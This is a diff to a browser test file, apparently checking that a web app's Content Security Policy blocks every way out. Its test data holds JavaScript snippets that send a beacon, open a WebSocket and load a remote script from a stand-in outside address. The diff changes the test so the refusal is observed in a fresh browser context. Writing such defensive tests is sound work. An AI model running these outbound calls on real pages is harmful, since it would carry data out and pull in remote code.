@@ -3,9 +3,9 @@
 from __future__ import annotations
 
 import pytest
-from playwright.sync_api import Page
+from playwright.sync_api import Browser, Page
 
-from tests.browser.screen import visit
+from tests.browser.screen import is_here, visit
 from tests.servers.app import ROOT, App
 
 PAGES = sorted(path.stem.replace("_", "-") for path in (ROOT / "pages").glob("*.py"))
@@ -26,18 +26,23 @@ TRIES = {
     "beacon": "new Promise(r => { document.addEventListener('securitypolicyviolation', () => r(false));"
     " navigator.sendBeacon('http://203.0.113.9/', 'x'); setTimeout(() => r(true), 3000) })",
     "websocket": "new Promise(r => { try { const s = new WebSocket('ws://203.0.113.9/'); s.onopen = () => r(true);"
-    " s.onerror = () => r(false) } catch { r(false) } })",
+    " s.onerror = s.onclose = () => r(false) } catch { r(false) } })",
     "script": "new Promise(r => { const s = document.createElement('script'); s.onload = () => r(true);"
     " s.onerror = () => r(false); s.src = 'http://203.0.113.9/x.js'; document.head.append(s) })",
 }
 
 
 @pytest.mark.parametrize("way", TRIES)
-def test_the_policy_refuses_every_way_out(app: App, page: Page, outside: list[str], way: str) -> None:
-    """The request does not even reach the network: the test's own refusal never sees it."""
+def test_the_policy_refuses_every_way_out(app: App, browser: Browser, way: str) -> None:
+    """The browser itself refuses: nothing of the test stands between the page and the network but a listener."""
+    context = browser.new_context()
+    reached: list[str] = []
+    context.route(lambda url: not is_here(url), lambda route: (reached.append(route.request.url), route.abort())[1])
+    page = context.new_page()
     visit(page, app.url)
     blocked = "new Promise(r => document.addEventListener('securitypolicyviolation', e => r(e.blockedURI)))"
-    page.evaluate(f"window.blocked = {blocked}")
+    page.evaluate(f"void (window.blocked = {blocked})")
     assert page.evaluate(TRIES[way]) is False
     assert "203.0.113.9" in page.evaluate("window.blocked")
-    assert outside == []
+    assert reached == []
+    context.close()
